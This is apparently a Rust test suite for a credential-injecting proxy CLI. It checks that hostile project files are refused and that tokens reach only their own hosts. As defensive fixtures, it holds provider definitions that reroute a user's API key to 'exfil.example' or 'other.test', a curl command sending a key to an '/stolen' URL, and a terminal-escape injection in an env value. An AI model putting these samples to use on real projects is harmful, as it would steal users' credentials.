            reader.read_to_string(&mut left).unwrap();
            assert_eq!(left, "keystrokes\n", "{args:?} read the terminal");
        }
    }
    // What `allow` would read is named, and nothing is trusted.
    let out = bounded(env.cmd(&["status", "--json"]).current_dir(&fifo_dir).stdin(Stdio::null()), "status --json");
    let v = trust_json(&out);
    assert_eq!(v["trust"], "not_allowed", "{v}");
    assert_eq!(v["unread_definitions"], serde_json::json!([{"name": "acme", "path": "acme.json"}]), "{v}");
}

/// Item 2, in a real shell: `cd` into a directory whose never-allowed file
/// names `/dev/stdin`, or a FIFO, returns at once with one line, and the
/// command typed next runs (the hook never reads the terminal).
fn cd_into_a_hostile_project_returns_promptly(kind: crate::common::shell::Kind) {
    use crate::common::shell::{Sandbox, Tmux};
    let sb = Sandbox::new();
    for d in ["tty-proj", "fifo-proj"] {
        std::fs::create_dir(sb.path(d)).unwrap();
    }
    sb.write_project("tty-proj", "[definitions]\ndiscord = \"/dev/stdin\"\n");
    nix::unistd::mkfifo(&sb.path("fifo-proj/discord.json"), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    sb.write_project("fifo-proj", "[definitions]\ndiscord = \"discord.json\"\n[providers.discord]\n");
    let mut sh = Tmux::start(kind, &sb.root, &sb.root, &sb.base_env());
    sh.send("cd tty-proj");
    assert_eq!(sh.capture("echo alive"), b"alive\n", "{kind:?}");
    assert!(sh.screen().contains("authsome.toml:2:11: "), "{kind:?}: {}", sh.screen());
    sh.send("cd ../fifo-proj");
    assert_eq!(sh.capture("echo still-alive"), b"still-alive\n", "{kind:?}");
    let screen = sh.screen();
    assert!(screen.contains("is not allowed yet") && screen.contains("discord.json"), "{kind:?}: {screen}");
    assert!(!sh.env().contains_key("HTTPS_PROXY"), "{kind:?}: nothing is activated");
}

#[test]
fn item02_cd_into_a_hostile_project_returns_promptly_in_a_real_shell() {
    cd_into_a_hostile_project_returns_promptly(crate::common::shell::Kind::BashString);
}

#[test]
fn item02_cd_into_a_hostile_project_returns_promptly_in_zsh() {
    cd_into_a_hostile_project_returns_promptly(crate::common::shell::Kind::Zsh);
}

#[test]
fn item02_cd_into_a_hostile_project_returns_promptly_in_fish() {
    cd_into_a_hostile_project_returns_promptly(crate::common::shell::Kind::Fish);
}

/// Item 2: an allowed project's definitions must be regular files inside the
/// project, at most 256 KiB. Each refusal cites `authsome.toml:line:column`,
/// never blocks, and records no trust.
#[test]
fn item02_definitions_must_be_small_regular_files_inside_the_project() {
    use crate::common::project::Sandbox;
    use std::os::unix::fs::symlink;
    let sb = Sandbox::new();
    let def = r#"{"name": "acme", "auth_type": "api_key", "flow": "api_key", "api_url": "api.acme.test",
        "api_key": {"header_name": "X-Api-Key", "env_var": "ACME_KEY"}}"#;
    let outside = sb.tmp.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("acme.json"), def).unwrap();
    std::fs::create_dir(sb.dir.join("defs")).unwrap();
    std::fs::write(sb.dir.join("defs/acme.json"), def).unwrap();
    symlink(outside.join("acme.json"), sb.dir.join("out-link.json")).unwrap();
    symlink(&outside, sb.dir.join("out-dir")).unwrap();
    symlink("/dev/zero", sb.dir.join("zero.json")).unwrap();
    symlink("defs/acme.json", sb.dir.join("in-link.json")).unwrap();
    nix::unistd::mkfifo(&sb.dir.join("fifo.json"), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let big = format!("{}{}", def, " ".repeat(300 * 1024));
    std::fs::write(sb.dir.join("big.json"), big).unwrap();

    let abs = outside.join("acme.json").display().to_string();
    for (path, why) in [
        (abs.as_str(), "must be a relative path inside the project"),
        ("../outside/acme.json", "must be a relative path inside the project"),
        ("defs/../../outside/acme.json", "must be a relative path inside the project"),
        ("out-link.json", "outside the project"),
        ("out-dir/acme.json", "outside the project"),
        ("zero.json", "outside the project"),
        ("fifo.json", "not a regular file"),
        ("big.json", "larger than 256 KiB"),
    ] {
        sb.write_toml(&format!("[definitions]\nacme = \"{path}\"\n[providers.acme]\n"));
        let out = bounded(&mut sb.cmd(&["allow"]), &format!("allow with {path}"));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{path}: {stderr}");
        assert!(stderr.contains("authsome.toml:2:8: ") && stderr.contains(why), "{path}: {stderr}");
        let records = std::fs::read_dir(sb.home.join("trust")).map(|d| d.count()).unwrap_or(0);
        assert_eq!(records, 0, "{path}: the refusal recorded trust");
    }
    // Control: files inside the project, directly or through a link that stays inside.
    for path in ["defs/acme.json", "in-link.json"] {
        sb.write_toml(&format!("[definitions]\nacme = \"{path}\"\n[providers.acme]\n"));
        let out = sb.run(&["allow"]);
        assert!(out.status.success(), "{path}: {}", String::from_utf8_lossy(&out.stderr));
    }
}

/// Item 2: the project file itself is found by walking up and may be
/// anything: a FIFO named `authsome.toml` hangs nothing, and a huge one is
/// refused by its size without being read.
#[test]
fn item02_the_project_file_itself_is_read_safely() {
    let env = LoginEnv::new();
    let root = tempfile::tempdir().unwrap();
    let (fifo, huge) = (root.path().join("fifo"), root.path().join("huge"));
    for d in [&fifo, &huge] {
        std::fs::create_dir(d).unwrap();
    }
    nix::unistd::mkfifo(&fifo.join("authsome.toml"), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let f = std::fs::File::create(huge.join("authsome.toml")).unwrap();
    f.set_len(64 << 20).unwrap();
    for args in [&["export", "json"][..], &["status"], &["allow"]] {
        let mut cmd = env.cmd(args);
        cmd.current_dir(&huge).env("AUTHSOME_SHELL_STATE", "").stdin(Stdio::null());
        let out = bounded(&mut cmd, &format!("{args:?} with a huge file"));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("larger than 256 KiB"), "{args:?}: {stderr}");
        let mut cmd = env.cmd(args);
        cmd.current_dir(&fifo).env("AUTHSOME_SHELL_STATE", "").stdin(Stdio::null());
        let out = bounded(&mut cmd, &format!("{args:?} with a FIFO"));
        assert!(args[0] == "export" || out.status.code() == Some(2), "{args:?}: {}", crate::common::proxy::text(&out));
    }
}

/// Item 1: trust records written before trust remembered which definitions
/// it allowed keep working for a project that did not move (its definitions
/// are read as small regular files inside the project and the digest of their
/// content decides, as before), while the same file linked elsewhere is not allowed.
#[test]
fn item01_trust_records_from_before_keep_working_where_the_project_is() {
    use crate::common::project::Sandbox;
    let sb = Sandbox::new();
    std::fs::write(
        sb.dir.join("acme.json"),
        r#"{"name": "acme", "auth_type": "api_key", "flow": "api_key", "api_url": "api.acme.test", "api_key": {"header_name": "X-Api-Key"}}"#,
    )
    .unwrap();
    sb.write_toml("[definitions]\nacme = \"acme.json\"\n[providers.acme]\n");
    assert!(sb.run(&["allow"]).status.success());
    // Rewrite the record as the previous version wrote it.
    let records: Vec<PathBuf> = std::fs::read_dir(sb.home.join("trust")).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(records.len(), 1);
    let mut record: serde_json::Value = serde_json::from_slice(&std::fs::read(&records[0]).unwrap()).unwrap();
    assert!(record.as_object_mut().unwrap().remove("definitions").is_some(), "{record}");
    std::fs::write(&records[0], record.to_string()).unwrap();
    let status = trust_json(&sb.run(&["status", "--json"]));
    assert_eq!(status["trust"], "allowed", "{status}");
    let other = sb.tmp.path().join("other");
    std::fs::create_dir(&other).unwrap();
    std::os::unix::fs::symlink(sb.dir.join("authsome.toml"), other.join("authsome.toml")).unwrap();
    let status = trust_json(&sb.cmd(&["status", "--json"]).current_dir(&other).output().unwrap());
    assert_eq!(status["trust"], "not_allowed", "{status}");
    // Its meaning is still checked: an edited definition drops trust.
    std::fs::write(
        sb.dir.join("acme.json"),
        r#"{"name": "acme", "auth_type": "api_key", "flow": "api_key", "api_url": "exfil.example", "api_key": {"header_name": "X-Api-Key"}}"#,
    )
    .unwrap();
    let status = trust_json(&sb.run(&["status", "--json"]));
    assert_eq!(status["trust"], "changed", "{status}");
}

/// Item 13: `{base_url}` in `api_url` needs a base URL to fill it; without
/// `oauth.base_url` the entry was bound to a made-up host and loaded silently.
#[test]
fn item13_base_url_in_api_url_needs_oauth_base_url_with_a_location() {
    let text = "{\n  \"name\": \"ghe\",\n  \"auth_type\": \"api_key\",\n  \"flow\": \"api_key\",\n  \"api_url\": [\"api.ghe.test\", \"{base_url}/api/\"],\n  \"api_key\": {\"env_var\": \"GHE_KEY\"}\n}";
    let err = authsome::providers::parse(text, "ghe.json").unwrap_err();
    assert_eq!(err.code, 2);
    assert!(err.message.starts_with("ghe.json:5:31: "), "{}", err.message);
    assert!(err.message.contains("oauth.base_url is not set"), "{}", err.message);
    // Through the command line too: the file is named with its line and column, nothing is installed.
    let env = LoginEnv::new();
    let file = env.dir.path().join("ghe.json");
    std::fs::write(&file, text).unwrap();
    let out = env.run(&["register", &file.display().to_string()], None);
    assert_eq!(out.code, 2, "{}", out.all());
    assert!(out.stderr.contains("ghe.json:5:31: ") && out.stderr.contains("oauth.base_url"), "{}", out.all());
    assert!(!env.home().join("providers").join("ghe.json").exists());
}

/// Item 13: after `login github --base-url https://github.example.test` the
/// Enterprise token was injected on api.github.com and its own host got
/// nothing. It goes to its own host's `/api/` (v3 and uploads) only; the
/// github.com connection beside it keeps api.github.com.
#[test]
fn item13_enterprise_token_goes_only_to_its_own_host() {
    const GHE: &str = "github.example.test";
    let fake = FakeAs::start_tls(Config { granted_scope: Some("repo,read:user".into()), ..Config::default() }, &[GHE]);
    let mut env = LoginEnv::new();
    let ca = env.dir.path().join("ghe-ca.pem");
    std::fs::write(&ca, fake.ca_pem().unwrap()).unwrap();
    let c = fake.config();
    env.use_fake_browser(serde_json::json!({"client_id": c.client_id, "client_secret": c.client_secret.unwrap_or_default()}));
    let resolve = format!("{GHE}:443:127.0.0.1:{}", fake.addr().port());
    for (k, v) in [("AUTHSOME_RESOLVE", &resolve), ("FAKE_BROWSER_RESOLVE", &resolve), ("AUTHSOME_UPSTREAM_CA", &ca.display().to_string())]
    {
        env.set(k, v);
    }
    env.set("FAKE_BROWSER_CA", &ca.display().to_string());
    // The bundled definition, not a test copy: providers/github.json must say where Enterprise lives.
    let login = env.run(&["login", "github", "--connection", "enterprise", "--base-url", &format!("https://{GHE}")], None);
    assert_eq!(login.code, 0, "{}", login.all());
    assert_eq!(fake.requests_to("token").last().map(|r| r.headers["host"].clone()), Some(GHE.to_owned()));
    let ghe_token = fake.access_tokens().last().unwrap().clone();
    let public_token = "gho_public0123456789abcdef";
    store_token(&env, "github", public_token);

    let echo = Echo::start(&["api.github.com", GHE]);
    env.set("AUTHSOME_RESOLVE", &format!("{},{}", echo.resolve("api.github.com"), echo.resolve(GHE)));
    env.set("AUTHSOME_UPSTREAM_CA", &echo.ca_path.display().to_string());
    let project = env.dir.path().join("project");
    std::fs::create_dir(&project).unwrap();
    std::fs::write(
        project.join("authsome.toml"),
        "[[providers.github]]\nconnection = \"default\"\n[[providers.github]]\nconnection = \"enterprise\"\n",
    )
    .unwrap();
    let run = |args: &[&str]| {
        let out = env.cmd(args).current_dir(&project).stdin(Stdio::null()).output().unwrap();
        let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(out.status.success(), "{args:?}: {all}");
    };
    run(&["allow"]);
    let requests = [
        ("GH_TOKEN_ENTERPRISE", format!("https://{GHE}/api/v3/user")),
        ("GH_TOKEN_ENTERPRISE", format!("https://{GHE}/api/uploads/repos/o/r/releases/1/assets")),
        ("GH_TOKEN_ENTERPRISE", format!("https://{GHE}/settings/profile")),
        ("GH_TOKEN_ENTERPRISE", "https://api.github.com/enterprise-probe".to_owned()),
        ("GH_TOKEN", "https://api.github.com/user".to_owned()),
    ];
    let script: String =
        requests.iter().map(|(var, url)| format!("curl -s -o /dev/null -H \"Authorization: Bearer ${var}\" '{url}'; ")).collect();
    run(&["exec", "--", "sh", "-c", &script]);
    let seen = echo.seen();
    let auth = |target: &str| seen.iter().find(|s| s.target == target).map(|s| s.header("authorization")).unwrap_or_default();
    let ghe = format!("Bearer {ghe_token}");
    assert_eq!(auth("/api/v3/user"), vec![ghe.clone()], "the Enterprise host's API: {seen:?}");
    assert_eq!(auth("/api/uploads/repos/o/r/releases/1/assets"), vec![ghe.clone()], "{seen:?}");
    assert!(!auth("/settings/profile").concat().contains(&ghe_token), "outside /api/: {seen:?}");
    assert!(!auth("/enterprise-probe").concat().contains(&ghe_token), "an Enterprise token reached api.github.com: {seen:?}");
    assert_eq!(auth("/user"), vec![format!("Bearer {public_token}")], "github.com keeps api.github.com: {seen:?}");
    assert_eq!(seen.len(), requests.len(), "{seen:?}");
}

/// A project directory beside `env`'s home holding `toml` and the `files` it names.
fn project_dir(env: &LoginEnv, toml: &str, files: &[(&str, &str)]) -> PathBuf {
    let dir = env.dir.path().join("repo");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("authsome.toml"), toml).unwrap();
    for (name, text) in files {
        std::fs::write(dir.join(name), text).unwrap();
    }
    dir
}

/// `authsome ARGS` in `dir`.
fn run_in(env: &LoginEnv, dir: &Path, args: &[&str]) -> crate::common::login_env::Out {
    crate::common::login_env::finish(
        env.cmd(args).current_dir(dir).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap(),
    )
}

/// Item 3: `allow` showed "defines acme from …" and variable names only. It
/// must show every host, port and path prefix each provider injects on, the
/// `[run.env]` values, the `secret_env` names and the command, escaped.
#[test]
fn item03_allow_shows_every_host_variable_value_secret_env_and_command() {
    let env = LoginEnv::new();
    let acme = r#"{"name": "acme", "auth_type": "api_key", "flow": "api_key",
        "api_url": ["https://api.acme.test/v2", "api.acme.test:8443"], "api_key": {"env_var": "ACME_KEY"}}"#;
    let toml = "[definitions]\nacme = \"acme.json\"\n[providers.acme]\n[providers.openai]\nsecret_env = \"CI_OPENAI_KEY\"\n\
        [run]\ncommand = \"make deploy\"\nenv = { MODE = \"prod\\u001b[2J\\n  proxy     undeclared hosts: deny\", API_BASE = \"https://staging.example\" }\n";
    let dir = project_dir(&env, toml, &[("acme.json", acme)]);
    let out = run_in(&env, &dir, &["allow"]);
    assert_eq!(out.code, 0, "{}", out.all());
    for shown in [
        "api.openai.com",
        "OPENAI_API_KEY",
        "CI_OPENAI_KEY",
        "api.acme.test/v2/*",
        "api.acme.test:8443",
        "ACME_KEY",
        "make deploy",
        "API_BASE=https://staging.example",
        "MODE=prod\\x1b[2J\\n  proxy     undeclared hosts: deny",
    ] {
        assert!(out.stderr.contains(shown), "allow does not show {shown:?}:\n{}", out.stderr);
    }
    assert!(!out.stderr.contains('\x1b'), "a raw escape reached the terminal: {:?}", out.stderr);
    assert_eq!(out.stderr.matches("\n  proxy").count(), 1, "a value drew a line of its own:\n{}", out.stderr);
    // The same in --json, for scripts that review before they allow.
    assert_eq!(run_in(&env, &dir, &["deny"]).code, 0);
    let out = run_in(&env, &dir, &["allow", "--json"]);
    assert_eq!(out.code, 0, "{}", out.all());
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let g = &v["grants"];
    let acme = g["providers"].as_array().unwrap().iter().find(|p| p["provider"] == "acme").unwrap();
    assert_eq!(acme["injects_on"], serde_json::json!(["api.acme.test/v2/*", "api.acme.test:8443"]));
    let openai = g["providers"].as_array().unwrap().iter().find(|p| p["provider"] == "openai").unwrap();
    assert_eq!(openai["injects_on"], serde_json::json!(["api.openai.com"]));
    assert_eq!(openai["secret_env"], "CI_OPENAI_KEY");
    assert_eq!(g["env"]["API_BASE"], "https://staging.example");
    assert_eq!(g["command"], "make deploy");
    assert_eq!(g["warnings"], serde_json::json!([]));
}

/// Item 3: a project definition named like the bundled `openai` with
/// `api_url = "exfil.example"` took the user's existing key there after a
/// plain `allow`, which said only "defines openai from …". Now `allow` says
/// so on a warning line of its own (old → new hosts, also in --json) and
/// refuses, changing nothing, unless told `--replace openai`.
#[test]
fn item03_a_definition_replacing_the_bundled_openai_needs_replace_and_says_so_loudly() {
    let env = home_with_openai();
    let evil = r#"{"name": "openai", "auth_type": "api_key", "flow": "api_key", "api_url": "exfil.example",
        "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": "OPENAI_API_KEY"}}"#;
    let dir = project_dir(&env, "[definitions]\nopenai = \"openai.json\"\n[providers.openai]\n", &[("openai.json", evil)]);
    let loud = "REPLACES the bundled definition of openai";
    let out = run_in(&env, &dir, &["allow"]);
    assert_eq!(out.code, 2, "a plain allow let the project redirect the user's key:\n{}", out.all());
    assert!(out.stderr.contains(&format!("! {loud}")), "not on a warning line of its own:\n{}", out.stderr);
    assert!(out.stderr.contains("api.openai.com → exfil.example"), "{}", out.stderr);
    assert!(out.stderr.contains("authsome allow --replace openai"), "the message names the explicit command: {}", out.stderr);
    let status = run_in(&env, &dir, &["status", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&status.stdout).unwrap();
    assert_eq!(v["trust"], "not_allowed", "a refused allow changed nothing: {}", status.all());
    assert!(v["grants"]["warnings"][0].as_str().unwrap().contains(loud), "{v}");
    // `status` opens nothing an untrusted file names (item 2): it warns by the name alone.
    let status = run_in(&env, &dir, &["status"]);
    assert!(status.stderr.contains(loud) && status.stderr.contains("api.openai.com → not read until `authsome allow`"), "{}", status.all());
    assert!(!status.all().contains("exfil.example"), "status read the untrusted definition: {}", status.all());
    // exec refuses the project (not allowed), so nothing reaches exfil.example.
    let exec = run_in(&env, &dir, &["exec", "--", "true"]);
    assert_eq!(exec.code, 2, "{}", exec.all());

    let json = run_in(&env, &dir, &["allow", "--json"]);
    assert_eq!(json.code, 2, "{}", json.all());
    let err: serde_json::Value = serde_json::from_str(json.stderr.lines().last().unwrap()).unwrap();
    assert!(err["message"].as_str().unwrap().contains(loud), "{err}");
    assert_eq!(run_in(&env, &dir, &["allow", "--replace", "anthropic"]).code, 2, "--replace must name what is replaced");

    let ok = run_in(&env, &dir, &["allow", "--replace", "openai", "--json"]);
    assert_eq!(ok.code, 0, "{}", ok.all());
    assert!(ok.stderr.contains(loud), "still loud when confirmed: {}", ok.stderr);
    let v: serde_json::Value = serde_json::from_str(&ok.stdout).unwrap();
    assert!(v["grants"]["warnings"][0].as_str().unwrap().contains("api.openai.com → exfil.example"), "{v}");
    let replaces = &v["grants"]["definitions"][0]["replaces"];
    assert_eq!(
        (replaces["replaces"].as_str(), replaces["before"].clone(), replaces["after"].clone()),
        (Some("bundled"), serde_json::json!(["api.openai.com"]), serde_json::json!(["exfil.example"]))
    );
    // Allowed as it is: allowing again grants nothing new, and still says what it replaces.
    let again = run_in(&env, &dir, &["allow"]);
    assert_eq!(again.code, 0, "{}", again.all());
    assert!(again.stderr.contains(loud), "{}", again.stderr);
    // Any edit asks again, with the flag again.
    std::fs::write(dir.join("authsome.toml"), "[definitions]\nopenai = \"openai.json\"\n[providers.openai]\n[run]\ncommand = \"true\"\n")
        .unwrap();
    assert_eq!(run_in(&env, &dir, &["allow"]).code, 2);
}

/// Item 3: `up`'s prompt offered "Allow it? [y/N]" for a project whose
/// definition takes the place of the user's own `acme` (sending the user's
/// acme key to another host). A "y" never replaces a definition: `up` shows
/// what would change and names `allow --replace acme`.
#[test]
fn item03_up_never_takes_a_y_for_a_definition_replacing_the_users_own() {
    use crate::common::project_run::{ProjectWorld, Pty};
    let w = ProjectWorld::new();
    let evil = r#"{"name": "acme", "auth_type": "api_key", "flow": "api_key", "api_url": "other.test",
        "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": "ACME_API_KEY"}}"#;
    std::fs::write(w.dir.join("acme.json"), evil).unwrap();
    w.write_toml(&format!(
        "[definitions]\nacme = \"acme.json\"\n[providers.acme]\n[run]\ncommand = '''{}'''\n",
        crate::common::project_run::curl_with("ACME_API_KEY", "https://other.test/stolen")
    ));
    let mut pty = Pty::spawn(w.cmd(&["up"]));
    pty.send("y\n");
    assert_eq!(pty.wait(), 2, "{}", pty.output());
    let shown = pty.output();
    assert!(shown.contains("REPLACES your definition of acme") && shown.contains("api.acme.test → other.test"), "{shown}");
    assert!(shown.contains("authsome allow --replace acme"), "{shown}");
    assert!(!shown.contains("Allow it?"), "a y must not replace a definition: {shown}");
    assert!(w.world.echo.seen().is_empty(), "the key went somewhere: {:?}", w.world.echo.seen());
}

/// Item 13: the routes of a running `run` are built from each connection's
/// base URL when it starts. Logged in again with `--base-url` while it runs,
/// the connection's new Enterprise token was injected on the old host
/// (api.github.com). The source refuses a connection whose hosts changed.
#[test]
fn item13_a_connection_logged_in_again_elsewhere_is_not_injected_on_its_old_hosts() {
    let echo = Echo::start(&["api.github.com"]);
    let env = upstream_env(&echo, &["api.github.com"], &[]);
    store_token(&env, "github", "gho_public0123456789abcdef");
    let sync = tempfile::tempdir().unwrap();
    let (ready, go) = (sync.path().join("ready"), sync.path().join("go"));
    let curl = |path: &str| format!("curl -s -o /dev/null -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com{path}");
    let script = format!(
        "{}; touch '{}'; while [ ! -f '{}' ]; do sleep 0.05; done; {}",
        curl("/before"),
        ready.display(),
        go.display(),
        curl("/after")
    );
    let child =
        env.cmd(&["run", "--", "sh", "-c", &script]).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while !ready.exists() {
        assert!(Instant::now() < deadline, "the child never got to its first request");
        std::thread::sleep(Duration::from_millis(20));
    }
    let home = authsome::paths::Home::at(env.home(), "default");
    authsome::vault::Vault::open(&home)
        .unwrap()
        .update(|d| {
            let mut c = authsome::vault::Connection::oauth("github", "default", authsome::secret::Secret::new("ghe-enterprise-token-0123"));
            c.base_url = Some("https://github.example.test".into());
            d.put_connection(c);
            Ok(())
        })
        .unwrap();
    std::fs::write(&go, "").unwrap();
    let out = crate::common::login_env::finish(child);
    assert_eq!(out.code, 0, "{}", out.all());
    let seen = echo.seen();
    let auth = |target: &str| seen.iter().find(|s| s.target == target).map(|s| s.header("authorization")).unwrap_or_default();
    assert_eq!(auth("/before"), vec!["Bearer gho_public0123456789abcdef".to_owned()], "{seen:?}");
    assert!(!auth("/after").concat().contains("ghe-enterprise-token"), "the Enterprise token reached api.github.com: {seen:?}");
}

/// Item 3: a project allowed while its `inhouse` definition replaced nothing
/// kept its trust after the user added their own `inhouse` (or logged in to
/// one, or a release bundled one): the project's definition then silently
/// won for the user's own `inhouse` credentials. A replacement that was not
/// there when the project was allowed drops trust everywhere (`exec`, `up`,
/// `status`, the shell hook, the daemon), naming the clash and the fix.
#[test]
fn item03_a_replacement_that_appears_after_allow_drops_trust() {
    let env = LoginEnv::new();
    let project_def = r#"{"name": "inhouse", "auth_type": "api_key", "flow": "api_key", "api_url": "api.inhouse.test",
        "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": "INHOUSE_KEY"}}"#;
    let dir = project_dir(&env, "[definitions]\ninhouse = \"inhouse.json\"\n[providers.inhouse]\n", &[("inhouse.json", project_def)]);
    let file = dir.join("authsome.toml");
    let allowed = run_in(&env, &dir, &["allow"]);
    assert_eq!(allowed.code, 0, "control: nothing is replaced, a plain allow trusts it: {}", allowed.all());
    let trust_here = || trust_json(&bounded(env.cmd(&["status", "--json"]).current_dir(&dir).stdin(Stdio::null()), "status"));
    assert_eq!(trust_here()["trust"], "allowed");

    // Later, the user's own definition of the same name appears, and the user logs in to it.
    env.install_provider(&serde_json::json!({"name": "inhouse", "auth_type": "api_key", "flow": "api_key",
        "api_url": "api.inhouse.example", "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": "INHOUSE_KEY"}}));
    let login = env.run(&["login", "inhouse"], Some("inhouse-users-own-key-0123456789"));
    assert_eq!(login.code, 0, "{}", login.all());
    let fix = format!("authsome allow --replace inhouse {}", dir.display());
    let names_the_clash = |said: &str| {
        said.contains("your definition of inhouse")
            && said.contains(&env.home().join("providers/inhouse.json").display().to_string())
            && said.contains(&fix)
    };
    let status = trust_here();
    assert_ne!(status["trust"], "allowed", "the project's definition silently replaces the user's own: {status}");
    assert_eq!(status["allow_command"], fix, "{status}");
    let status = run_in(&env, &dir, &["status"]);
    assert_eq!(status.code, 2, "{}", status.all());
    assert!(names_the_clash(&status.stderr), "{}", status.all());
    for args in [&["exec", "--", "true"][..], &["up", "--", "true"]] {
        let out = run_in(&env, &dir, args);
        assert_eq!(out.code, 2, "{args:?}: {}", out.all());
        assert!(names_the_clash(&out.stderr), "{args:?}: {}", out.all());
    }
    // The shell hook activates nothing, and the project proxy it would start refuses.
    let out = bounded(env.cmd(&["export", "json"]).current_dir(&dir).env("AUTHSOME_SHELL_STATE", "").stdin(Stdio::null()), "export");
    let changes = trust_json(&out);
    assert!(changes.get("HTTPS_PROXY").is_none() && changes.get("INHOUSE_KEY").is_none(), "activated: {changes}");
    assert!(names_the_clash(&String::from_utf8_lossy(&out.stderr)), "{}", crate::common::proxy::text(&out));
    let out = bounded(env.cmd(&["daemon", "serve", file.to_str().unwrap()]).env("AUTHSOME_DAEMON_LINGER", "0.2"), "daemon serve");
    assert_eq!(out.status.code(), Some(2), "daemon serve: {}", crate::common::proxy::text(&out));
    assert!(names_the_clash(&String::from_utf8_lossy(&out.stderr)), "{}", crate::common::proxy::text(&out));

    // A plain allow is not enough: replacing the user's definition takes the flag.
    assert_eq!(run_in(&env, &dir, &["allow"]).code, 2);
    let confirmed = run_in(&env, &dir, &["allow", "--replace", "inhouse", dir.to_str().unwrap()]);
    assert_eq!(confirmed.code, 0, "{}", confirmed.all());
    assert_eq!(trust_here()["trust"], "allowed");
    let exec = run_in(&env, &dir, &["exec", "--", "true"]);
    assert_eq!(exec.code, 0, "confirmed, the project runs again: {}", exec.all());
}

/// Item 3, while `up` runs: the user's own definition of a name the project
/// defines appears; the running proxy stops injecting at once, naming the
/// clash (the command keeps running).
#[test]
fn item03_a_replacement_that_appears_while_up_runs_stops_injection() {
    use crate::common::project_run::{curl_with, up_with_stderr_log, wait_for_file, ProjectWorld};
    let w = ProjectWorld::new();
    let widget = |env_var: &str| {
        serde_json::json!({"name": "widget", "auth_type": "api_key", "flow": "api_key", "api_url": "api.acme.test",
            "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": env_var}})
        .to_string()
    };
    std::fs::write(w.dir.join("widget.json"), widget("WIDGET_KEY")).unwrap();
    let script = format!(
        // The wait is bounded, so a failing test leaves no command behind.
        "{}; touch one; for i in $(seq 1200); do [ -f go-one ] && break; sleep 0.05; done; {}; exit 0",
        curl_with("WIDGET_KEY", "https://api.acme.test/before"),
        curl_with("WIDGET_KEY", "https://api.acme.test/after")
    );
    w.write_toml(&format!("[definitions]\nwidget = \"widget.json\"\n[providers.widget]\n[run]\ncommand = '''{script}'''\n"));
    w.allow();
    let key = "widget-key-0123456789abcdef";
    let mut login = w.cmd(&["login", "widget"]).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    std::io::Write::write_all(&mut login.stdin.take().unwrap(), key.as_bytes()).unwrap();
    let out = login.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", crate::common::proxy::text(&out));

    let (mut child, log) = up_with_stderr_log(&w);
    wait_for_file(&w.dir.join("one"));
    std::fs::write(w.world.home.path().join("providers/widget.json"), widget("MY_WIDGET_KEY")).unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while !log.lock().unwrap().contains("injection stopped") {
        assert!(Instant::now() < deadline, "injection never stopped:\n{}", log.lock().unwrap());
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(log.lock().unwrap().contains("has come to replace your definition of widget"), "{}", log.lock().unwrap());
    std::fs::write(w.dir.join("go-one"), "").unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(0), "{}", log.lock().unwrap());
    let seen = w.world.echo.seen();
    let auth = |target: &str| seen.iter().find(|s| s.target == target).map(|s| s.header("authorization")).unwrap_or_default();
    assert_eq!(auth("/before"), vec![format!("Bearer {key}")], "{seen:?}");
    assert!(!auth("/after").concat().contains(key), "injected after the clash appeared: {seen:?}");
}
